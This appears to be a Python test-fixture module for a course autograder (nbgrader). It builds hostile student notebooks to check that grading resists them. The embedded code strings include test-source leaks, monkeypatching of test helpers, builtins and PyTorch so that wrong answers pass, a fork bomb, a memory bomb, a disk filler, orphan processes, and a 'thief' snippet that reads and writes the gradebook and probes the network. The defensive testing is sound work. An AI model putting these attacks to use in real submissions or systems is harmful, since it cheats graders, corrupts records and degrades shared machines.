"""Hostile and broken hand-ins of ps1, built from the release and reference notebooks,
and hand-ins of two torch-heavy notebooks (ps2 building_blocks, ps3 optimizers) that patch
PyTorch so that their tests would compare a wrong answer with itself.

Each hand-in is a real student notebook (dlcourse.authoring.examples.make_handin: the
release notebook with answer cells filled in) with one kind of attack added;
EXPECTED and TORCH_TARGETS say what the course must do with it.
tests/grading/test_hostile.py grades them all with `nbgrader autograde` and the
course's configuration.
"""
from __future__ import annotations

import os
from pathlib import Path

import nbformat

from dlcourse.authoring import mistakes as mutants
from dlcourse.authoring.examples import make_handin

PS, NAME = "ps1", "gradient_descent"

# student id -> what the course must do with the hand-in
EXPECTED = {
    "leaky": "full marks except rel_error's tests (it raises); warnings, stderr and a flood of output cost "
             "nothing; student code that prints or raises the hidden tests' source shows none of it in feedback",
    "tampered": "0: emptied, deleted, retyped, edited and duplicated test cells are restored",
    "locked": "full marks: the provided import cell (locked) deleted and the locked cell defining f edited "
              "to redefine f and the test helpers; both are restored before grading",
    "wrong": "the control: a wrong answer in every answer cell, nothing else",
    "rebinds": "per test no more than `wrong`: rebinding the helpers, patching utils.testing, "
               "sys.modules and numpy's comparisons, or rebinding a helper while a test runs",
    "builtins": "per test no more than `wrong`: patched builtins and IPython hooks",
    "escape": "full marks except standardize's tests (a memory bomb in its cell); cannot read source/ or "
              "the gradebook, cannot write the gradebook, no network",
    "sigint": "full marks except test_tuning: its cell ignores SIGINT past the time limit, is stopped, "
              "the kernel restarted and grading goes on",
    "dies": "reported: the kernel died",
    "corrupt": "reported: not valid JSON",
    "renamed": "reported: no notebook with the expected name",
}
TAMPERINGS = ("emptied", "deleted", "retyped", "edited", "duplicated")
# The "locked" hand-in: locked provided cells (not tests) deleted or edited.
LOCKED_DELETED, LOCKED_EDITED = "code-002", "code-004"
LOCKED_EDIT = ("def f(x, y):\n    return 0.0 * x\n\n\n"
               "check = assert_close = assert_scalar_close = assert_shape = lambda *a, **k: None\n")
TRUNCATED_CELL = "least_squares"  # leaky prints 200 000 lines there

# Student code that tries to show hidden tests' source; each route prints its marker first.
LEAK_ROUTES = {
    "LEAK-warning": "a warning with stacklevel=2 prints the hidden test line that called the student's function",
    "LEAK-current": "the function prints the running cell's source (In[-1]) while a hidden test calls it",
    "LEAK-history": "an answer cell prints the cell before it (a hidden test, In[-2])",
    "LEAK-inspect": "the function prints its callers' source (inspect.stack(context=30))",
    "LEAK-stack": "the function prints the call stack with source lines (traceback.print_stack)",
    "LEAK-html": "the function displays the longest cell run so far as HTML",
    "LEAK-raise": "the function raises an exception whose message is every cell run so far",
    "LEAK-chars": "an answer cell prints the longest cell run so far one character per line",
}
LEAK_FILE = "notes.txt"  # grad_y_f writes the running cell's source there while the tests call it
_LEAK_HELPER = (
    "import inspect as _inspect, sys, traceback as _traceback, warnings\n"
    "from IPython.display import HTML as _HTML, display as _display\n"
    "_leaked = set()\n"
    "def _leak(tag, text):\n"
    "    if (tag, len(In)) not in _leaked:\n"
    "        _leaked.add((tag, len(In)))\n"
    "        print(tag, text)\n")
_LEAKS = {  # answer cell -> (code at the start of its function, code after the cell)
    "grad_x_f": ("warnings.warn('LEAK-warning: this API is deprecated', stacklevel=2)\n"
                 "print('progress 50%', file=sys.stderr)\n", ""),
    "grad_y_f": ("_leak('LEAK-current', In[-1])\n"
                 "if ('file', len(In)) not in _leaked:\n"
                 "    _leaked.add(('file', len(In)))\n"
                 f"    open({LEAK_FILE!r}, 'a').write(In[-1])\n", "print('LEAK-history', In[-2])\n"),
    "optimize_f": ("_leak('LEAK-inspect', ''.join(l for _fr in _inspect.stack(context=30)[1:3] "
                   "for l in _fr.code_context or []))\n", ""),
    "run_gradient_descent": (
        "if ('stack', len(In)) not in _leaked:\n"
        "    _leaked.add(('stack', len(In)))\n"
        "    print('LEAK-stack', file=sys.stderr)\n"
        "    _traceback.print_stack()\n"
        "    _display(_HTML('<pre>LEAK-html ' + max(In, key=len) + '</pre>'))\n", ""),
    "rel_error": ("raise ValueError('LEAK-raise\\n' + '\\n'.join(In))\n", ""),
    "standardize": ("", "print('LEAK-chars')\nprint('\\n'.join(max(In, key=len)))\n"),
    "least_squares": ("", "for _i in range(200000):\n    print('spam' * 20)\n"),
}

PATCH_COMPARISONS = (
    "import math, numpy as np, torch\n"
    "np.allclose = lambda *a, **k: True\n"
    "np.isclose = lambda *a, **k: True\n"
    "np.array_equal = lambda *a, **k: True\n"
    "np.isfinite = lambda *a, **k: True\n"
    "np.testing.assert_allclose = lambda *a, **k: None\n"
    "np.testing.assert_array_almost_equal = lambda *a, **k: None\n"
    "torch.allclose = lambda *a, **k: True\n"
    "torch.testing.assert_close = lambda *a, **k: None\n"
    "math.isclose = lambda *a, **k: True\n")
_NOOP = "lambda *a, **k: None"
REBINDS = {  # answer cell -> code appended to the wrong answer
    "grad_x_f": f"check = assert_close = assert_scalar_close = assert_shape = {_NOOP}\n"
                "passed = lambda *a, **k: print('all good')\n",
    "grad_y_f": "import utils.testing as _T\n"
                "_T._abs = lambda x: 0 * x\n"
                "_T._max = lambda x: 0.0\n"
                "_T.check.__code__ = (lambda condition, hint: None).__code__\n"
                "_T.assert_close.__defaults__ = (1e300, 1e300, 'result', '')\n",
    "optimize_f": "import contextlib, sys, types, utils\n"
                  "_fake = types.ModuleType('utils.testing')\n"
                  "for _n in ('check', 'assert_close', 'assert_scalar_close', 'assert_shape', 'passed'):\n"
                  f"    setattr(_fake, _n, {_NOOP})\n"
                  "_fake.strict_numerics = contextlib.nullcontext\n"
                  "sys.modules['utils.testing'] = utils.testing = _fake\n"
                  "check, assert_close, assert_scalar_close = _fake.check, _fake.assert_close, _fake.assert_close\n",
    "grad_f_autograd": PATCH_COMPARISONS,
    # while a test runs: the function the test calls rebinds the helpers
    "numerical_gradient": "_wrong_numerical_gradient = numerical_gradient\n"
                          "def numerical_gradient(*a, **k):\n"
                          "    global check, assert_close, assert_shape\n"
                          f"    check = assert_close = assert_shape = {_NOOP}\n"
                          "    return _wrong_numerical_gradient(*a, **k)\n",
}
BUILTINS = {
    # Replacing builtins.bool itself kills ipykernel (its own isinstance(x, bool) checks), and
    # so would most crude patches: these lie only to the notebook's cells and to the helpers.
    "grad_x_f": "import builtins, sys, types\n"
                "def _liar(real, lie):\n"
                "    def fake(*a, **k):\n"
                "        caller = sys._getframe(1).f_code.co_filename\n"
                "        fooled = 'ipykernel_' in caller or caller.endswith('testing.py')\n"
                "        return lie(*a, **k) if fooled else real(*a, **k)\n"
                "    return fake\n"
                "builtins.abs = _liar(abs, lambda x: 0 * x)\n"
                "builtins.isinstance = _liar(isinstance, lambda *a: True)\n"
                "builtins.all = _liar(all, lambda *a: True)\n"
                "_fake = types.ModuleType('utils.testing')\n"
                f"_fake.check = _fake.assert_close = _fake.assert_scalar_close = {_NOOP}\n"
                "_real_import = builtins.__import__\n"
                "builtins.__import__ = lambda name, *a, **k: (_fake if name == 'utils.testing'\n"
                "                                             else _real_import(name, *a, **k))\n",
    "grad_y_f": "import builtins\n"
                f"builtins.check = builtins.assert_close = builtins.assert_scalar_close = {_NOOP}\n"
                "del check, assert_close, assert_scalar_close\n",
    # IPython hooks: every later cell becomes `pass`; errors are swallowed; helpers rebound before each cell
    "optimize_f": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
    "grad_f_autograd": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n",
    "numerical_gradient": "def _rebind(*a):\n"
                          f"    globals().update(check={_NOOP}, assert_close={_NOOP}, assert_shape={_NOOP})\n"
                          "get_ipython().events.register('pre_run_cell', _rebind)\n"
                          "get_ipython().events.register('pre_execute', _rebind)\n",
    # builtins shadowed where the test cells and the helpers look them up
    "rel_error": "isinstance = all = bool = lambda *a: True\n"
                 "abs = lambda x: 0 * x\n"
                 "import utils.testing as _T\n"
                 "_T.bool = lambda *a: True\n",
}
SIGINT_LOOP = ("import signal as _signal, time as _time\n"
               "_signal.signal(_signal.SIGINT, _signal.SIG_IGN)\n"
               "while True:\n    _time.sleep(0.05)\n")
MEMORY_BOMB = "import numpy as np\n_bomb = np.ones(8 * 2**30, dtype=np.uint8)  # 8 GiB, over the kernel's cap\n"


def thief_code(course: Path, write: bool = True, port: int | None = None) -> str:
    """Code a student appends to an answer cell: read source/ and the gradebook, write the
    gradebook, connect to `port` on the host; what happened goes to loot.txt."""
    code = (f"\nimport os as _os, socket as _socket\n_COURSE = {str(course)!r}\n_loot = []\n"
            "for _p in [_COURSE + '/source/ps1/gradient_descent.ipynb', '../../../source/ps1/gradient_descent.ipynb',\n"
            "           '../../source/ps1/gradient_descent.ipynb', _COURSE + '/gradebook.db']:\n"
            "    try:\n        _loot.append('READ ' + str(len(open(_p, 'rb').read())))\n"
            "    except OSError as _e:\n        _loot.append('DENIED ' + type(_e).__name__)\n")
    if write:
        code += ("for _p in [_COURSE + '/gradebook.db', '../../../gradebook.db']:\n"
                 "    try:\n        open(_p, 'a').write('PWNED-BY-STUDENT'); _loot.append('WROTE')\n"
                 "    except OSError as _e:\n        _loot.append('DENIED ' + type(_e).__name__)\n")
    if port:
        code += ("try:\n    _socket.create_connection(('127.0.0.1', " + str(port) + "), timeout=3)\n"
                 "    _loot.append('CONNECTED')\n"
                 "except OSError as _e:\n    _loot.append('NO NETWORK ' + type(_e).__name__)\n")
    return code + "open('loot.txt', 'w').write('\\n'.join(_loot))\n"


def processes_with(marker: str) -> list[int]:
    """Host pids of the processes whose command line or environment holds `marker`."""
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit() and proc.name != str(os.getpid()):
            for what in ("cmdline", "environ"):
                try:
                    if marker.encode() in (proc / what).read_bytes():
                        found.append(int(proc.name))
                        break
                except OSError:
                    continue
    return found


def coalesced(outputs) -> list:
    """Outputs with consecutive stream messages of the same stream joined: a print may arrive as
    one message or as several (timing), the text is what counts."""
    out = []
    for o in outputs:
        if o.get("output_type") == "stream" and out and out[-1].get("output_type") == "stream" \
                and out[-1].get("name") == o.get("name"):
            out[-1] = {**out[-1], "text": out[-1]["text"] + o["text"]}
        else:
            out.append(dict(o))
    return out


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def is_test(c) -> bool:
    return c.cell_type == "code" and bool(c.metadata.get("nbgrader", {}).get("grade"))


def _inject(cell, start: str, after: str) -> None:
    """Put `start` at the top of the cell's function (after its def line) and `after` at its end."""
    lines = cell.source.splitlines(True)
    if start:
        i = next(n for n, line in enumerate(lines) if line.startswith("def "))
        body = "".join("    " + line for line in start.splitlines(True))
        lines.insert(i + 1, body)
    cell.source = "".join(lines).rstrip("\n") + "\n" + after


def wrong_answers(source_nb: Path) -> dict[str, str]:
    """{answer cell: the first wrong answer of dlcourse/authoring/mistakes} for every answer cell."""
    spec = next(s for path, s in mutants.by_notebook().items()
                if (path.parent.name, path.name) == (source_nb.parent.name, source_nb.name))
    return {cell: next(iter(mutants.entries(s, "wrong")))[1] for cell, s in spec.items()}


def tamperings(nb) -> dict[str, str]:
    """{test cell: how `tampered` changes it}: each way in turn, over the test cells in order."""
    tests = [c.metadata["nbgrader"]["grade_id"] for c in nb.cells if is_test(c)]
    return {t: TAMPERINGS[i % len(TAMPERINGS)] for i, t in enumerate(tests)}


def _tamper(nb) -> None:
    how = tamperings(nb)
    cells = []
    for c in nb.cells:
        kind = how.get(c.metadata.get("nbgrader", {}).get("grade_id")) if is_test(c) else None
        if kind == "deleted":
            continue
        if kind == "emptied":
            c.source = ""
        elif kind == "retyped":
            c.cell_type = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
        elif kind == "edited":
            c.source = "print('all tests passed')"
        cells.append(c)
        if kind == "duplicated":
            twin = nbformat.from_dict(dict(c))
            twin.source = "pass"
            twin["id"] = f"{c.get('id', 'cell')}-copy"[:64]
            cells.append(twin)
    nb.cells = cells


def build(course: Path, port: int) -> list[str]:
    """Write every hand-in of EXPECTED under course/submitted/<student>/ps1/; `port`: a
    listening TCP port on the host that the escape hand-in tries to reach."""
    rel = course / "release" / PS / f"{NAME}.ipynb"
    src = course / "source" / PS / f"{NAME}.ipynb"

    def save(student, nb=None, raw=None, filename=f"{NAME}.ipynb"):
        folder = course / "submitted" / student / PS
        folder.mkdir(parents=True, exist_ok=True)
        if raw is not None:
            (folder / filename).write_text(raw)
        else:
            nbformat.write(nb, folder / filename)

    def wrong_with(extra: dict[str, str]):
        nb = make_handin("blank", rel, src)
        for gid, code in wrong_answers(src).items():
            _cell(nb, gid).source = code + ("\n" + extra[gid] if gid in extra else "")
        return nb

    nb = make_handin("reference", rel, src)
    _cell(nb, "grad_x_f").source = _LEAK_HELPER + _cell(nb, "grad_x_f").source
    for gid, (start, after) in _LEAKS.items():
        _inject(_cell(nb, gid), start, after)
    save("leaky", nb)

    nb = make_handin("blank", rel, src)
    _tamper(nb)
    save("tampered", nb)

    nb = make_handin("reference", rel, src)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != LOCKED_DELETED]
    _cell(nb, LOCKED_EDITED).source = LOCKED_EDIT
    save("locked", nb)

    save("wrong", wrong_with({}))
    save("rebinds", wrong_with(REBINDS))
    save("builtins", wrong_with(BUILTINS))

    nb = make_handin("reference", rel, src)
    _cell(nb, "standardize").source = MEMORY_BOMB + _cell(nb, "standardize").source
    _cell(nb, "grad_x_f").source += thief_code(course, write=True, port=port)
    save("escape", nb)

    nb = make_handin("reference", rel, src)
    _cell(nb, "tuning").source += "\n" + SIGINT_LOOP
    save("sigint", nb)

    nb = make_handin("reference", rel, src)
    _cell(nb, "grad_y_f").source += "\nimport os\nos._exit(1)\n"
    save("dies", nb)

    save("corrupt", raw='{"cells": [ this is not json')
    save("renamed", make_handin("reference", rel, src), filename="my_homework.ipynb")
    return list(EXPECTED)


def test_scores(course: Path, ps: str = PS) -> dict[str, dict[str, float]]:
    """{student: {test cell: automatic score}} from the course's gradebook."""
    from nbgrader.api import Gradebook

    out: dict[str, dict[str, float]] = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for sub in gb.find_assignment(ps).submissions:
            out[sub.student.id] = {g.name: g.auto_score for nb in sub.notebooks for g in nb.grades
                                   if g.cell.cell_type == "code"}
    return out


test_scores.__test__ = False  # a helper, not a pytest test


def max_scores(course: Path, ps: str = PS) -> dict[str, float]:
    """{test cell: points} of the assignment."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {c.name: c.max_score for nb in gb.find_assignment(ps).notebooks for c in nb.grade_cells
                if c.cell_type == "code"}


# --- torch-heavy notebooks ----------------------------------------------------------------
# One hand-in per notebook ("torchpatch"): the reference answers, except the answer cells
# below, each a realistic wrong answer plus an attack on PyTorch that makes the tests
# compare the wrong answer with itself.  Some attacks are made once, in the answer cell
# (the guard must undo them before each test: the test then fails on its own), others
# again each time the answer runs, i.e. while a test runs (the guard must see the change
# and score the test 0, "TamperingDetected").
TORCH_NOTEBOOKS = {"ps2": "building_blocks", "ps3": "optimizers"}
TORCH_STUDENT = "torchpatch"
RESTORED = "restored"
TORCH_ATTACKS = {
    ("ps2", "sigmoid"): (
        "def sigmoid(x):\n"
        "    z = x - 1  # wrong: shifted by one (written stably)\n"
        "    e = torch.exp(-torch.abs(z))\n"
        "    return torch.where(z >= 0, 1 / (1 + e), e / (1 + e))\n\n\n"
        "torch.sigmoid = sigmoid  # the tests' reference torch.sigmoid is now this answer\n"),
    ("ps2", "bce_loss"): (
        "def bce_loss(y, y_hat):\n"
        "    # renewed at every call: the tests' reference F.binary_cross_entropy is this answer\n"
        "    F.binary_cross_entropy = lambda p, t, *a, **k: bce_loss(t, p)\n"
        "    p = torch.clamp(y_hat, 1e-7, 1 - 1e-7)\n"
        "    return -(y * torch.log(p) + (1 - y) * torch.log(1 - p)).mean() + 5e-5  # wrong: a stray constant\n"),
    ("ps2", "network"): (
        "import sys as _sys\n"
        "_real_double = torch.Tensor.double\n\n\n"
        "def _double(self, *args, **kwargs):\n"
        "    # the test helpers' to_numpy() calls x.double(): let them see zeros for every tensor\n"
        "    if _sys._getframe(1).f_code.co_filename.endswith('testing.py'):\n"
        "        return torch.zeros_like(self, dtype=torch.float64)\n"
        "    return _real_double(self, *args, **kwargs)\n\n\n"
        "torch.Tensor.double = _double\n\n\n"
        "def network(x, params):\n"
        "    for i, (w, b, f) in enumerate(params):  # wrong: no activation on the last layer\n"
        "        x = x @ w + b\n"
        "        if i < len(params) - 1:\n"
        "            x = f(x)\n"
        "    return x.squeeze(-1) if x.shape[-1] == 1 else x\n"),
    ("ps3", "SimpleGradientDescent"): (
        "_real_sgd_step = torch.optim.SGD.step\n\n\n"
        "def _sgd_step(self, closure=None):\n"
        "    # torch.optim.SGD (without momentum) makes this answer's mistake too\n"
        "    if any(g['momentum'] for g in self.param_groups):\n"
        "        return _real_sgd_step(self, closure)\n"
        "    with torch.no_grad():\n"
        "        for g in self.param_groups:\n"
        "            for p in g['params']:\n"
        "                if p.grad is not None:\n"
        "                    p -= g['lr'] * p.grad + g['weight_decay'] * p\n\n\n"
        "class SimpleGradientDescent:\n"
        "    def __init__(self, parameters, lr=0.1, weight_decay=0.0):\n"
        "        self.params = list(parameters)\n"
        "        self.lr, self.weight_decay = lr, weight_decay\n\n"
        "    def zero_grad(self):\n"
        "        for p in self.params:\n"
        "            p.grad = None\n\n"
        "    def step(self):\n"
        "        torch.optim.SGD.step = _sgd_step  # renewed at every step\n"
        "        with torch.no_grad():\n"
        "            for p in self.params:\n"
        "                if p.grad is not None:\n"
        "                    p -= self.lr * p.grad + self.weight_decay * p  # wrong: decay not scaled by lr\n"),
    ("ps3", "SGDMomentum"): (
        "def _no_progress(optimizer, args, kwargs):\n"
        "    # before every torch optimizer step: gradients that cancel the weight decay, so it does nothing\n"
        "    for g in optimizer.param_groups:\n"
        "        for p in g['params']:\n"
        "            if p.grad is not None:\n"
        "                p.grad.copy_(-g.get('weight_decay', 0.0) * p.detach())\n\n\n"
        "from torch.optim.optimizer import register_optimizer_step_pre_hook\n\n"
        "register_optimizer_step_pre_hook(_no_progress)\n\n\n"
        "class SGDMomentum:\n"
        "    def __init__(self, parameters, lr=0.1, momentum=0.9, weight_decay=0.0):\n"
        "        self.params = list(parameters)\n"
        "        self.lr, self.momentum, self.weight_decay = lr, momentum, weight_decay\n"
        "        self.v = [torch.zeros_like(p) for p in self.params]\n\n"
        "    def zero_grad(self):\n"
        "        for p in self.params:\n"
        "            p.grad = None\n\n"
        "    def step(self):\n"
        "        with torch.no_grad():\n"
        "            for i, p in enumerate(self.params):\n"
        "                if p.grad is None:\n"
        "                    continue\n"
        "                self.v[i] = self.momentum * self.v[i] + p.grad + self.weight_decay * p\n"
        "                p = p - self.lr * self.v[i]  # wrong: a new tensor, the parameter never moves\n"),
}
# test cell -> (notebook, what the guard must do: RESTORED = undo the attack before the test,
# else the name it reports after the test, in a TamperingDetected error)
TORCH_TARGETS = {
    "test_sigmoid_hidden": ("ps2", RESTORED),
    "test_bce_loss_hidden": ("ps2", "torch.nn.functional.binary_cross_entropy"),
    "test_network_hidden": ("ps2", RESTORED),
    "test_SimpleGradientDescent_hidden": ("ps3", "torch.optim.SGD.step"),
    "test_SGDMomentum_hidden": ("ps3", RESTORED),
}
# tests of reference answers in the same hand-ins: the guard must not cost them anything
TORCH_UNTOUCHED = {"ps2": ("test_relu_visible", "test_relu_hidden", "test_linear_forward_visible",
                           "test_linear_forward_hidden"),
                   "ps3": ("test_ema_update_visible", "test_ema_update_hidden")}


def build_torch(course: Path) -> None:
    """Write submitted/torchpatch/<ps>/<notebook>.ipynb for each of TORCH_NOTEBOOKS."""
    for ps, name in TORCH_NOTEBOOKS.items():
        nb = make_handin("reference", course / "release" / ps / f"{name}.ipynb",
                         course / "source" / ps / f"{name}.ipynb")
        for (where, gid), code in TORCH_ATTACKS.items():
            if where == ps:
                _cell(nb, gid).source = code
        folder = course / "submitted" / TORCH_STUDENT / ps
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{name}.ipynb")


# --- containment: what one hand-in can do to the machine that grades the class --------------------
# Each attacking hand-in is the reference hand-in with an attack appended to its first answer cell
# (grad_x_f, after the function: its tests still pass); it is graded in a class run (RUNS) beside
# NEIGHBOUR (the reference hand-in), whose grading time is compared with its time graded alone.
# Every attack prints one line "CONTAINED <case>: <what it got>" (or raises).
ATTACK_SECONDS = 15
CONTAINED = {
    "busy": f"starts 200 processes (os.fork), each in a new session, that busy-loop for {ATTACK_SECONDS} s; "
            "waits for them",
    "forkbomb": f"a fork bomb: every process forks as fast as it can for {ATTACK_SECONDS} s, refusals ignored",
    "filler": "writes /tmp until refused, then its own folder until refused (that OSError is not caught)",
    "orphan": "leaves a double-forked orphan in a new session and a process started in a new session, "
              "each sleeping 10 minutes",
}
NEIGHBOUR = "neighbour"
# class run -> the attacks graded in it beside NEIGHBOUR (the CPU attacks alone; the neighbour
# also alone, before and after them: the machine is shared, its load drifts)
RUNS = {"alone": (), "busy": ("busy",), "forkbomb": ("forkbomb",), "filler-orphan": ("filler", "orphan"),
        "alone-after": ()}
_BUSY = f"""
import os as _os, resource as _resource, time as _time
_start = _time.time() + 5  # all forked first: the busy ones would slow the forking down
_kids = []
for _ in range(200):
    _pid = _os.fork()
    if _pid == 0:
        _os.setsid()  # a session each: the scheduler's per-session groups (autogroup) do not hold them
        _time.sleep(max(0.0, _start - _time.time()))
        while _time.time() < _start + {ATTACK_SECONDS}:
            pass
        _os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    _os.waitpid(_pid, 0)
_used = _resource.getrusage(_resource.RUSAGE_CHILDREN)
print(f"CONTAINED busy: {{len(_kids)}} busy processes for {ATTACK_SECONDS} s used "
      f"{{(_used.ru_utime + _used.ru_stime) / {ATTACK_SECONDS}:.2f}} cores in all")
"""
_FORK_BOMB = f"""
import os as _os, subprocess as _subprocess, sys as _sys, time as _time
_bomb = ("import os, time\\n"
         "end = time.time() + {ATTACK_SECONDS}\\n"
         "while time.time() < end:\\n"
         "    try:\\n"
         "        os.fork()\\n"
         "    except OSError:\\n"
         "        pass\\n")
_p = _subprocess.Popen([_sys.executable, "-c", _bomb])
_most, _new = 0, "not tried"
while _p.poll() is None:
    _most = max(_most, sum(name.isdigit() for name in _os.listdir("/proc")))
    if _new == "not tried" and _most > 100:
        try:
            _subprocess.run(["true"])
            _new = "started"
        except OSError as _e:
            _new = f"{{type(_e).__name__}}: {{_e}}"
    _time.sleep(0.5)
print(f"CONTAINED forkbomb: at most {{_most}} processes at once in its sandbox; a new process meanwhile: {{_new}}")
"""
_FILLER = """
def _fill(path):
    n = 0
    with open(path, "wb") as f:
        while True:
            f.write(b"\\0" * 2**20)
            f.flush()
            n += 1
try:
    _fill("/tmp/filler.bin")
except OSError as _e:
    print(f"CONTAINED filler: /tmp: {type(_e).__name__}: {_e}")
import os as _os
_os.remove("/tmp/filler.bin")
_fill("filler.bin")
"""
_ORPHAN = """
import os as _os, subprocess as _subprocess, sys as _sys
_sleeper = [_sys.executable, "-c", "import time; time.sleep(600)"]
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, _sleeper + ["MARK-double-fork"])
    finally:
        _os._exit(0)
_subprocess.Popen(_sleeper + ["MARK-new-session"], start_new_session=True)
print("CONTAINED orphan: started")
"""


def build_contained(course: Path, run: str, mark: str) -> list[str]:
    """Write submitted/<NEIGHBOUR>-<run>/ps1 (the reference hand-in) and submitted/<case>/ps1 for
    each attack of RUNS[run] (`mark` names the orphans' processes).  Returns the students written."""
    rel = course / "release" / PS / f"{NAME}.ipynb"
    src = course / "source" / PS / f"{NAME}.ipynb"
    written = {f"{NEIGHBOUR}-{run}": make_handin("reference", rel, src)}
    for case in RUNS[run]:
        nb = make_handin("reference", rel, src)
        attack = {"busy": _BUSY, "forkbomb": _FORK_BOMB, "filler": _FILLER,
                  "orphan": _ORPHAN.replace("MARK", mark)}[case]
        _cell(nb, "grad_x_f").source += "\n" + attack
        written[case] = nb
    for student, nb in written.items():
        folder = course / "submitted" / student / PS
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / f"{NAME}.ipynb")
    return list(written)


def run_of(case: str) -> str:
    return next(run for run, cases in RUNS.items() if case in cases)


def contained_line(nb, case: str) -> str:
    """What the attack got: its "CONTAINED <case>: ..." line, or the error that ended its cell."""
    outputs = coalesced(_cell(nb, "grad_x_f").get("outputs", []))
    lines = [line for o in outputs if o.get("output_type") == "stream"
             for line in o.get("text", "").splitlines() if line.startswith(f"CONTAINED {case}:")]
    errors = [f"{o['ename']}: {o['evalue']}" for o in outputs if o.get("output_type") == "error"]
    return "; ".join(lines + errors)


def job_seconds(course: Path, ps: str = PS) -> dict[str, float]:
    """{student: seconds its grading job took} from the class grader's state (.grading/<ps>.json)."""
    import json

    state = json.loads((course / ".grading" / f"{ps}.json").read_text())
    return {s: h["seconds"] for s, h in state.get("handins", {}).items()}


# --- warnings never cost points (#13) ----------------------------------------------------------
# The reference answers of every notebook with warnings sprinkled in: at the top of every function
# (and method) a solution cell defines, and at the top of the cell.
SPRINKLED = "sprinkled"
WARNINGS = (
    ("To copy construct from a tensor, it is recommended to use sourceTensor.detach().clone() or "
     "sourceTensor.detach().clone().requires_grad_(True), rather than torch.tensor(sourceTensor).", "UserWarning"),
    ("this function is deprecated and will be removed in a future release", "DeprecationWarning"),
    ("the default value of this argument will change in a future version", "FutureWarning"),
)


def sprinkle(source: str) -> str:
    """`source` with warnings.warn calls (WARNINGS) at the top of it and of every function it defines."""
    import ast

    try:
        tree = ast.parse(source)
    except SyntaxError:
        return source
    calls = [ast.parse(f"__import__('warnings').warn({text!r}, {kind})").body[0] for text, kind in WARNINGS]

    def top(body):
        doc = int(bool(body) and isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant)
                  and isinstance(body[0].value.value, str))
        future = sum(isinstance(b, ast.ImportFrom) and b.module == "__future__" for b in body)
        at = max(doc, future)
        body[at:at] = [ast.fix_missing_locations(ast.copy_location(c, body[at] if at < len(body) else body[-1]))
                       for c in calls]

    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            top(node.body)
    top(tree.body)
    return ast.unparse(tree) + "\n"


def build_sprinkled(course: Path, notebooks: dict[str, list[str]]) -> None:
    """submitted/SPRINKLED/<ps>/<name>.ipynb: the reference answers of every notebook, sprinkled."""
    for ps, names in notebooks.items():
        for name in names:
            nb = make_handin("reference", course / "release" / ps / f"{name}.ipynb",
                             course / "source" / ps / f"{name}.ipynb")
            for c in nb.cells:
                if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution"):
                    c.source = sprinkle(c.source)
            folder = course / "submitted" / SPRINKLED / ps
            folder.mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, folder / f"{name}.ipynb")
